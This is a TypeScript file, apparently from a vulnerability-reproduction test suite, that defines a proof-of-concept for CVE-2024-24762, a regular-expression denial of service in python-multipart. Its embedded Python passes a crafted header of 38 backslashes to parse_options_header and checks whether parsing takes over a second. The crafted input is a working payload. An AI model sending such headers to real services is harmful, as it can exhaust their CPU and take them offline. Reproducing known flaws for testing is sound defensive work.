import { defineProof } from '../define-proof.ts';

/** Takes a header with very many backslashes apart and takes the time. */
export const pythonMultipartTime = defineProof({
  name: 'python-multipart-time',
  ids: ['CVE-2024-24762', 'GHSA-2jv5-9r88-3w3p'],
  ecosystem: 'PyPI',
  package: 'python-multipart',
  modules: ['multipart'],
  kind: 'redos',
  describes: 'Takes a header with very many backslashes apart and takes the time.',
  shownOn: { vulnerable: '0.0.6', fixed: '0.0.7' },
  source: String.raw`
from multipart.multipart import parse_options_header


def proof(tools):
    header = 'application/x; !="' + "\\" * 38
    kind, options = parse_options_header("form-data; name=a")
    return tools.cpu_ms(lambda: parse_options_header(header)) > 1000, options == {b"name": b"a"}
`,
});
